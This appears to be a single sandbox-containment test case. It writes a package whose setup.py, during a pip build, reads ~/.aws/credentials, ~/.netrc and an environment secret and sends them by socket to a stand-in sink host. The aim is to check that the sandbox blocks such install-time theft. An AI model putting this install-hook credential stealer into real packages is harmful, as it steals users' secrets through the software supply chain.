ID = 'supply.setup-py'
CATEGORY = 'supply-chain'
DESCRIPTION = 'pip builds a package whose setup.py reads ~/.aws, $CORRAL_PROBE_SECRET and ~/.netrc and posts them to the sink'
CLAIMS = ('host_fs_hidden', 'rule:env', 'rule:network (namespace)')
POLICY = {'limits': {'timeout': '60s'}}
CODE = r"""
import subprocess, textwrap
pkg = os.path.join(SCRATCH, "evilpkg"); os.makedirs(pkg, exist_ok=True)
src = "\n".join([
    "import os, socket",
    "loot = os.environ.get('CORRAL_PROBE_SECRET', '')",
    f"for p in ({FAKE_HOME!r} + '/.aws/credentials', {FAKE_HOME!r} + '/.netrc'):",
    "    try:",
    "        loot += open(p).read()",
    "    except OSError:",
    "        pass",
    "print('LOOT', loot)",
    f"open({SCRATCH!r} + '/setup-ran', 'w').write('yes')",
    "try:",
    f"    socket.create_connection(({SINK_HOST!r}, {SINK_PORT}), timeout=2).sendall(loot.encode())",
    "except OSError:",
    "    pass",
    "from setuptools import setup",
    "setup(name='evilpkg', version='1.0', py_modules=[])"])
open(os.path.join(pkg, "setup.py"), "w").write(src)
p = subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation",
                    "--no-index", "-w", os.path.join(SCRATCH, "wheels"), pkg],
                   capture_output=True, text=True)
print(p.stdout[-2000:])
ran = os.path.exists(os.path.join(SCRATCH, "setup-ran"))
if not ran:
    out("UNSUPPORTED", f"pip exit {p.returncode}: setup.py did not run")
else:
    out("DENIED", "setup.py ran; what it found and sent is seen from outside")
"""
CONTROL = 'host'
CONTAINED = 'the install-time code runs but finds no secret and reaches no sink'
